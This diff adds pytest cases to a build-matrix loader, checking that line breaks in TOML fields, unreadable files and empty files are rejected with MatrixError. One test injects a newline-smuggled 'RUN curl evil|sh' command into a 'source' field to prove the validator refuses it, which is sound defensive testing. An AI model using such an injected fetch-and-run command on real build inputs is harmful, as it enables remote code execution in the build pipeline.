@@ -140,6 +140,33 @@ def test_broken_file_errors_name_file_record_field(tmp_path: Path, file: str, ol
     assert info.value.hint and "\n" not in str(info.value)
 
 
+def test_line_breaks_in_data_strings_are_refused(tmp_path: Path) -> None:
+    d = copy_matrix(tmp_path)
+    text = (d / "vllm.toml").read_text()
+    (d / "vllm.toml").write_text(text.replace('source = "vllm-project/vllm@v0.10.0', 'source = "x\\nRUN curl evil|sh vllm-project/vllm@v0.10.0', 1))
+    with pytest.raises(MatrixError, match=r"vllm\.toml: release\[\d+\] \(0\.10\.0\): field 'source' contains a line break"):
+        matrix.load_dir(d)
+
+
+def test_unreadable_data_files_are_matrix_errors(tmp_path: Path) -> None:
+    d = copy_matrix(tmp_path)
+    (d / "gfx.toml").unlink()
+    (d / "gfx.toml").mkdir()
+    with pytest.raises(MatrixError, match=r"gfx\.toml: cannot read it"):
+        matrix.load_dir(d)
+    d2 = copy_matrix(tmp_path / "b")
+    (d2 / "vllm.toml").write_bytes(b"\xff\xfe\x00garbage")
+    with pytest.raises(MatrixError, match=r"vllm\.toml: not valid TOML"):
+        matrix.load_dir(d2)
+
+
+def test_an_emptied_file_is_refused(tmp_path: Path) -> None:
+    d = copy_matrix(tmp_path)
+    (d / "images.toml").write_text("# nothing here\n")
+    with pytest.raises(MatrixError, match=r"images\.toml: no records"):
+        matrix.load_dir(d)
+
+
 def test_invalid_toml_is_a_matrix_error(tmp_path: Path) -> None:
     d = copy_matrix(tmp_path)
     (d / "gfx.toml").write_text("[[gfx]\nname = ")
